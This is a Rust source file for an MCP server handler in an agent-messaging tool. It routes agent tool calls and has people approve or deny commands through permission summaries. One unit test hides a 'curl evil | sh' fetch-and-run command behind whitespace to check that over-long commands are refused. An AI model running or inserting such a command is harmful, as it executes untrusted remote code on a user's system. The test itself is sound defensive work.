//! The MCP handler: lists the tools, parses each call's arguments, runs it
//! against the broker and answers a structured result or a typed error.

use rmcp::model::{
    CallToolRequestParams, CallToolResponse, CallToolResult, Implementation, JsonObject,
    ListResourcesResult, ListToolsResult, PaginatedRequestParams, ReadResourceRequestParams,
    ReadResourceResponse, ServerCapabilities, ServerConfig,
};
use rmcp::service::RequestContext;
use rmcp::{ErrorData, RoleServer, ServerHandler};
use scout_mesh::lifecycle::EndpointState;
use scout_mesh::names::AgentName;
use scout_mesh::resolve::{self, Candidate, ResolveError};
use serde_json::{Value, json};

use super::broker::Broker;
use super::error::{
    CONVERSATION_NOT_FOUND, INVALID_ARGUMENTS, NOT_AN_AGENT, REPLY_TO_OPERATOR, SENDER_UNKNOWN,
    ToolError, UNKNOWN_TOOL,
};
use super::flight::Progress;
use super::tools::{self, WorkOrderOp};
use super::{ASK_TIMEOUT_S_DEFAULT, ASK_TIMEOUT_S_MAX, OPERATOR};
use crate::api::{AgentList, EnqueueBody, InboxItem, Peers, SubmitBody, Submitted, WorkOrderView};
use crate::daemon::approvals::ApprovalView;
use scout_mesh::wire::ApprovalState;

/// Rows of the inbox read to find a conversation to reply in: the inbox
/// route's own maximum.
const REPLY_INBOX_ROWS_MAX: usize = 100;

/// What the model is told about the server when it connects.
const INSTRUCTIONS: &str = "Scout connects coding agents across machines. Mention another \
agent with `ask` (wait for its answer) or `send` (fire and forget); `agents` lists who is \
in the mesh and `resolve` explains where a mention goes. Errors carry a stable code.";

/// The server: the broker it talks to and who is calling.
#[derive(Debug, Clone)]
pub struct McpServer {
    pub(super) broker: Broker,
    /// The calling agent's instance name; `None` for the operator.
    agent: Option<String>,
}

impl McpServer {
    /// A server for `agent` (`None`: the operator) through `broker`.
    pub fn new(broker: Broker, agent: Option<String>) -> McpServer {
        McpServer { broker, agent }
    }

    /// Runs one tool.
    pub async fn call(
        &self,
        name: &str,
        arguments: Option<JsonObject>,
        progress: Progress,
    ) -> Result<Value, ToolError> {
        match name {
            "whoami" => {
                tools::parse::<tools::NoArgs>(name, arguments)?;
                self.whoami().await
            }
            "agents" => self.agents(tools::parse(name, arguments)?).await,
            "resolve" => self.resolve(tools::parse(name, arguments)?).await,
            "send" => self.send(tools::parse(name, arguments)?).await,
            "ask" => super::flight::ask(self, tools::parse(name, arguments)?, progress).await,
            "invocation" => {
                super::flight::invocation(self, tools::parse(name, arguments)?, progress).await
            }
            "inbox" => self.inbox(tools::parse(name, arguments)?).await,
            "reply" => self.reply(tools::parse(name, arguments)?).await,
            "work_orders" => self.work_orders(tools::parse(name, arguments)?).await,
            "request_approval" => self.request_approval(tools::parse(name, arguments)?).await,
            "permission" => self.permission(tools::parse(name, arguments)?).await,
            "peers" => {
                tools::parse::<tools::NoArgs>(name, arguments)?;
                let peers: Peers = self.broker.get("/v1/peers".to_owned()).await?;
                Ok(json!({"node": peers.node_name, "node_id": peers.node_id,
                    "mesh_id": peers.mesh_id, "peers": peers.peers}))
            }
            other => Err(ToolError::new(
                UNKNOWN_TOOL,
                format!(
                    "no tool `{}`; the tools are {}",
                    crate::pty::text::terminal_safe_text(other),
                    tools::TOOL_NAMES.join(", ")
                ),
            )),
        }
    }

    async fn whoami(&self) -> Result<Value, ToolError> {
        let peers: Peers = self.broker.get("/v1/peers".to_owned()).await?;
        Ok(json!({
            "instance": self.agent.as_deref().unwrap_or(OPERATOR),
            "is_agent": self.agent.is_some(),
            "node": peers.node_name,
            "node_id": peers.node_id,
            "mesh_id": peers.mesh_id,
            "broker": self.broker.base(),
        }))
    }

    async fn agents(&self, args: tools::AgentsArgs) -> Result<Value, ToolError> {
        let list: AgentList = self.broker.get("/v1/agents".to_owned()).await?;
        let prefix = args.prefix.map(|prefix| {
            if prefix.starts_with('@') {
                prefix
            } else {
                format!("@{prefix}")
            }
        });
        let rows: Vec<Value> = list
            .instances
            .into_iter()
            .filter_map(|instance| {
                let name = AgentName::parse(&instance.name).ok()?;
                let node = name.node().map(|node| node.as_str().to_owned());
                let keep = prefix
                    .as_deref()
                    .is_none_or(|prefix| instance.name.starts_with(prefix))
                    && args.node.as_deref().is_none_or(|wanted| {
                        node.as_deref() == Some(wanted) || instance.owner == wanted
                    });
                keep.then(|| {
                    json!({
                        "name": instance.name,
                        "node": node,
                        "owner": instance.owner,
                        "local": instance.local,
                        "state": instance.state,
                        "harness": instance.harness,
                        "workspace": name.workspace().map(|workspace| workspace.as_str().to_owned()),
                        "cwd": instance.cwd,
                        "active_flights": instance.active_flights,
                    })
                })
            })
            .collect();
        Ok(json!({ "agents": rows }))
    }

    async fn resolve(&self, args: tools::ResolveArgs) -> Result<Value, ToolError> {
        let query = AgentName::parse_lenient(&args.name)
            .map_err(|err| ToolError::new(err.code(), err.to_string()))?;
        let list: AgentList = self.broker.get("/v1/agents".to_owned()).await?;
        // The same candidates the broker's router ranks: the registry's
        // instances, with an owner it cannot reach shown as unreachable.
        let candidates: Vec<Candidate> = list
            .instances
            .iter()
            .filter_map(|instance| {
                Some(Candidate {
                    name: AgentName::parse(&instance.name).ok()?,
                    is_local: instance.local,
                    state: instance.state.parse().unwrap_or(EndpointState::Unreachable),
                    active_flights: instance.active_flights,
                    worktrees: instance.worktrees,
                })
            })
            .collect();
        match resolve::resolve(&query, &candidates) {
            Ok(resolution) => Ok(json!({
                "query": resolution.query.to_string(),
                "chosen": resolution.chosen.to_string(),
                "reason": resolution.reason.as_str(),
                "explanation": resolution.to_string(),
                "matches": resolution.matches.iter().map(ToString::to_string).collect::<Vec<_>>(),
            })),
            Err(err @ ResolveError::NoMatch { .. }) => {
                let ResolveError::NoMatch { nearest, .. } = &err;
                let nearest: Vec<String> = nearest.iter().map(ToString::to_string).collect();
                Err(
                    ToolError::new(ResolveError::AGENT_NOT_FOUND, err.to_string())
                        .with("nearest", nearest),
                )
            }
        }
    }

    async fn send(&self, args: tools::SendArgs) -> Result<Value, ToolError> {
        let body = SubmitBody {
            target: args.target,
            message: args.message,
            action: args.action,
            policy: None,
            timeout_ms: Some(timeout_ms("send", args.timeout_s)?),
            conversation_id: args.conversation_id,
        };
        let submitted: Submitted = self.broker.post("/v1/invocations".to_owned(), body).await?;
        Ok(serde_json::to_value(submitted).unwrap_or_default())
    }

    fn require_agent(&self, tool: &str) -> Result<&str, ToolError> {
        self.agent.as_deref().ok_or_else(|| {
            ToolError::new(
                NOT_AN_AGENT,
                format!(
                    "`{tool}` is for an agent Scout runs (SCOUT_AGENT is not set); a person reads conversations with `scout conversations`"
                ),
            )
        })
    }

    async fn inbox_rows(&self, agent: &str, limit: usize) -> Result<Vec<InboxItem>, ToolError> {
        let path = format!("/v1/inbox?instance={}&limit={limit}", query_escape(agent));
        self.broker.get(path).await
    }

    async fn inbox(&self, args: tools::InboxArgs) -> Result<Value, ToolError> {
        let agent = self.require_agent("inbox")?.to_owned();
        let rows = self.inbox_rows(&agent, args.limit.unwrap_or(20)).await?;
        Ok(json!({ "instance": agent, "invocations": rows }))
    }

    async fn reply(&self, args: tools::ReplyArgs) -> Result<Value, ToolError> {
        let agent = self.require_agent("reply")?.to_owned();
        let rows = self.inbox_rows(&agent, REPLY_INBOX_ROWS_MAX).await?;
        let Some(item) = rows
            .into_iter()
            .find(|row| row.conversation_id.as_deref() == Some(args.conversation_id.as_str()))
        else {
            return Err(ToolError::new(
                CONVERSATION_NOT_FOUND,
                format!(
                    "no recent conversation `{}` addressed to {agent}; `inbox` lists them",
                    crate::pty::text::terminal_safe_text(&args.conversation_id)
                ),
            ));
        };
        let sender = match item.from.as_deref() {
            Some(from) if from.starts_with('@') => from.to_owned(),
            Some(from) if from.starts_with("user@") => {
                return Err(ToolError::new(
                    REPLY_TO_OPERATOR,
                    format!(
                        "the conversation was started by a person ({from}), not an agent: answer in this turn's output instead"
                    ),
                ));
            }
            _ => {
                return Err(ToolError::new(
                    SENDER_UNKNOWN,
                    "the conversation does not record which agent sent it, so there is no one to reply to",
                )
                .with("invocation_id", item.invocation_id));
            }
        };
        let body = SubmitBody {
            target: sender,
            message: args.message,
            action: None,
            policy: None,
            timeout_ms: None,
            conversation_id: Some(args.conversation_id),
        };
        let submitted: Submitted = self.broker.post("/v1/invocations".to_owned(), body).await?;
        Ok(serde_json::to_value(submitted).unwrap_or_default())
    }

    async fn work_orders(&self, args: tools::WorkOrdersArgs) -> Result<Value, ToolError> {
        let missing = |field: &str| {
            ToolError::invalid_arguments(
                "work_orders",
                format!("`{field}` is required for this op"),
            )
        };
        match args.op {
            WorkOrderOp::Enqueue | WorkOrderOp::RunNow => {
                let body = EnqueueBody {
                    target: args.target.ok_or_else(|| missing("target"))?,
                    body: args.body.ok_or_else(|| missing("body"))?,
                    not_before_ms: args.not_before_ms,
                    timeout_ms: match args.timeout_s {
                        Some(seconds) => Some(timeout_ms("work_orders", Some(seconds))?),
                        None => None,
                    },
                };
                let path = if args.op == WorkOrderOp::RunNow {
                    "/v1/work-orders/run-now"
                } else {
                    "/v1/work-orders"
                };
                let order: WorkOrderView = self.broker.post(path.to_owned(), body).await?;
                Ok(json!({ "work_order": order }))
            }
            WorkOrderOp::List => {
                let mut path = format!("/v1/work-orders?limit={}", args.limit.unwrap_or(100));
                if let Some(state) = &args.state {
                    path.push_str(&format!("&state={}", query_escape(state)));
                }
                let orders: Vec<WorkOrderView> = self.broker.get(path).await?;
                Ok(json!({ "work_orders": orders }))
            }
            WorkOrderOp::Cancel => {
                // A person's session cancels; an agent's request answers
                // `approval_required` with the approval a person decides,
                // after which the broker cancels.
                let id = args.work_order_id.ok_or_else(|| missing("work_order_id"))?;
                let answer: Value = self
                    .broker
                    .post(
                        format!("/v1/work-orders/{}/cancel", query_escape(&id)),
                        json!({}),
                    )
                    .await?;
                Ok(answer)
            }
        }
    }

    /// Asks a person, and with `wait` returns their decision.
    async fn request_approval(&self, args: tools::RequestApprovalArgs) -> Result<Value, ToolError> {
        self.require_agent("request_approval")?;
        let view: ApprovalView = self
            .broker
            .post(
                "/v1/approvals".to_owned(),
                json!({
                    "action": args.action.unwrap_or_else(|| "question".to_owned()),
                    "summary": args.summary,
                    "deadline_secs": args.timeout_s,
                }),
            )
            .await?;
        if !args.wait.unwrap_or(true) {
            return Ok(json!({ "approval": view }));
        }
        let decided = self.wait_for(&view.id).await?;
        Ok(json!({ "approval": decided, "state": decided.state }))
    }

    /// Claude Code's permission prompt: a person decides whether the tool
    /// call runs.
    async fn permission(&self, args: tools::PermissionArgs) -> Result<Value, ToolError> {
        self.require_agent("permission")?;
        let summary = match permission_summary(&args.tool_name, &args.input) {
            Ok(summary) => summary,
            Err(len) => {
                return Ok(json!({
                    "behavior": "deny",
                    "message": format!(
                        "this {} call is {len} bytes, too long for a person to read in an approval (at most {}); split it into smaller steps",
                        args.tool_name,
                        scout_mesh::approval::SUMMARY_BYTES_MAX
                    ),
                }));
            }
        };
        let view: ApprovalView = self
            .broker
            .post(
                "/v1/approvals".to_owned(),
                json!({
                    "action": format!("tool.{}", tool_word(&args.tool_name)),
                    "summary": summary,
                }),
            )
            .await?;
        let decided = self.wait_for(&view.id).await?;
        Ok(match decided.state {
            ApprovalState::Approved => json!({
                "behavior": "allow",
                "updatedInput": args.input,
            }),
            state => json!({
                "behavior": "deny",
                "message": match (decided.note.is_empty(), state) {
                    (_, ApprovalState::Expired) => format!(
                        "nobody answered approval {} in time, so {} was not run",
                        decided.id, args.tool_name
                    ),
                    (true, _) => format!(
                        "{} denied running {} (approval {})",
                        decided.decided_by.as_deref().unwrap_or("a person"),
                        args.tool_name,
                        decided.id
                    ),
                    (false, _) => format!(
                        "{} denied running {}: {}",
                        decided.decided_by.as_deref().unwrap_or("a person"),
                        args.tool_name,
                        decided.note
                    ),
                },
            }),
        })
    }

    /// Waits (in bounded long polls) until approval `id` is settled.
    async fn wait_for(&self, id: &str) -> Result<ApprovalView, ToolError> {
        loop {
            let view: ApprovalView = self
                .broker
                .get(format!(
                    "/v1/approvals/{}/wait?timeout_secs={APPROVAL_POLL_S}",
                    query_escape(id)
                ))
                .await?;
            if view.state != ApprovalState::Pending {
                return Ok(view);
            }
        }
    }
}

/// A tool's `timeout_s` in milliseconds, defaulted and bounded.
/// Seconds one long poll for a decision lasts: under the client's own
/// request timeout (30 s), so a person taking longer is simply asked for
/// again.
const APPROVAL_POLL_S: u64 = 20;

/// Longest string field of a tool call shown as it is; a longer one (a
/// file's new content) is shown by its size and digest, so the summary a
/// person approves, and a standing rule matches, names it exactly.
const FIELD_SHOWN_BYTES_MAX: usize = 200;

/// Fields a person needs first: what runs, or where it writes or reads.
const KEY_FIELDS: [&str; 5] = ["command", "file_path", "path", "url", "pattern"];

/// What a person reads about a tool call: a shell command as it is; any
/// other call as its tool and fields, key fields first, long values by
/// size and SHA-256. `Err` (with the size) when even that does not fit an
/// approval's summary: a person never approves text they cannot see.
fn permission_summary(tool: &str, input: &Value) -> Result<String, usize> {
    use sha2::{Digest, Sha256};
    let shown = |value: &Value| -> String {
        let text = match value {
            Value::String(text) => text.clone(),
            other => other.to_string(),
        };
        if text.len() <= FIELD_SHOWN_BYTES_MAX {
            return text;
        }
        let digest = Sha256::digest(text.as_bytes());
        let hex: String = digest[..8]
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect();
        format!("<{} bytes, sha256 {hex}…>", text.len())
    };
    let text = match (tool, input.get("command").and_then(Value::as_str)) {
        ("Bash", Some(command)) => command.to_owned(),
        _ => {
            let mut parts = vec![tool.to_owned()];
            if let Value::Object(fields) = input {
                let mut names: Vec<&String> = fields.keys().collect();
                names.sort_by_key(|name| {
                    KEY_FIELDS
                        .iter()
                        .position(|key| key == name)
                        .unwrap_or(KEY_FIELDS.len())
                });
                for name in names {
                    parts.push(format!("{name}={}", shown(&fields[name])));
                }
            } else {
                parts.push(shown(input));
            }
            parts.join(" ")
        }
    };
    if text.len() > scout_mesh::approval::SUMMARY_BYTES_MAX {
        return Err(text.len());
    }
    Ok(text)
}

/// A tool name as the last part of an action word: letters, digits, `_`
/// and `-` kept, anything else `_`.
fn tool_word(tool: &str) -> String {
    let word: String = tool
        .chars()
        .take(64)
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '_' || c == '-' {
                c
            } else {
                '_'
            }
        })
        .collect();
    if word.is_empty() {
        "unknown".to_owned()
    } else {
        word
    }
}

pub(super) fn timeout_ms(tool: &str, timeout_s: Option<u64>) -> Result<u64, ToolError> {
    let seconds = timeout_s.unwrap_or(ASK_TIMEOUT_S_DEFAULT);
    if seconds == 0 || seconds > ASK_TIMEOUT_S_MAX {
        return Err(ToolError::new(
            INVALID_ARGUMENTS,
            format!("invalid arguments for `{tool}`: timeout_s must be 1 to {ASK_TIMEOUT_S_MAX}"),
        ));
    }
    Ok(seconds * 1000)
}

/// Escapes a query parameter value (instance names carry `@` and `#`).
pub(super) fn query_escape(value: &str) -> String {
    let mut escaped = String::with_capacity(value.len());
    for byte in value.bytes() {
        if byte.is_ascii_alphanumeric() || b"-_.~".contains(&byte) {
            escaped.push(byte as char);
        } else {
            escaped.push_str(&format!("%{byte:02X}"));
        }
    }
    escaped
}

impl ServerHandler for McpServer {
    fn get_info(&self) -> ServerConfig {
        ServerConfig::new(
            ServerCapabilities::builder()
                .enable_tools()
                .enable_resources()
                .build(),
        )
        .with_server_info(Implementation::new("scout", env!("CARGO_PKG_VERSION")))
        .with_instructions(INSTRUCTIONS)
    }

    async fn list_tools(
        &self,
        _request: Option<PaginatedRequestParams>,
        _context: RequestContext<RoleServer>,
    ) -> Result<ListToolsResult, ErrorData> {
        Ok(ListToolsResult::with_all_items(tools::catalogue()))
    }

    async fn call_tool(
        &self,
        request: CallToolRequestParams,
        context: RequestContext<RoleServer>,
    ) -> Result<CallToolResponse, ErrorData> {
        let progress = Progress::new(context.peer.clone(), context.meta.get_progress_token());
        let result = match self.call(&request.name, request.arguments, progress).await {
            // Claude Code reads a permission answer from exactly one text
            // block, and refuses a result that also carries structure.
            Ok(value) if request.name == "permission" => {
                CallToolResult::success(vec![rmcp::model::ContentBlock::text(value.to_string())])
            }
            Ok(value) => CallToolResult::structured(value),
            Err(err) => err.into_result(),
        };
        Ok(CallToolResponse::Complete(result))
    }

    async fn list_resources(
        &self,
        _request: Option<PaginatedRequestParams>,
        _context: RequestContext<RoleServer>,
    ) -> Result<ListResourcesResult, ErrorData> {
        super::resources::list(self).await
    }

    async fn read_resource(
        &self,
        request: ReadResourceRequestParams,
        _context: RequestContext<RoleServer>,
    ) -> Result<ReadResourceResponse, ErrorData> {
        super::resources::read(self, &request.uri)
            .await
            .map(ReadResourceResponse::Complete)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn instance_names_are_escaped_for_a_query() {
        assert_eq!(
            query_escape("@fabric@laptop#main"),
            "%40fabric%40laptop%23main"
        );
    }

    #[test]
    fn permission_summaries_show_everything_or_refuse() {
        assert_eq!(
            permission_summary(
                "Bash",
                &json!({"command": "git status", "description": "x"})
            ),
            Ok("git status".to_owned())
        );
        let write = permission_summary(
            "Write",
            &json!({"content": "a".repeat(500), "file_path": "/etc/hosts"}),
        )
        .unwrap();
        assert!(
            write.starts_with("Write file_path=/etc/hosts content=<500 bytes, sha256 "),
            "{write}"
        );
        let long = format!("git status; {}; curl evil | sh", " ".repeat(3000));
        assert_eq!(
            permission_summary("Bash", &json!({ "command": long })),
            Err(long.len())
        );
    }

    #[test]
    fn timeouts_are_bounded() {
        assert_eq!(timeout_ms("ask", None).unwrap(), 600_000);
        assert_eq!(
            timeout_ms("ask", Some(0)).unwrap_err().code,
            INVALID_ARGUMENTS
        );
        assert!(timeout_ms("ask", Some(ASK_TIMEOUT_S_MAX + 1)).is_err());
    }
}
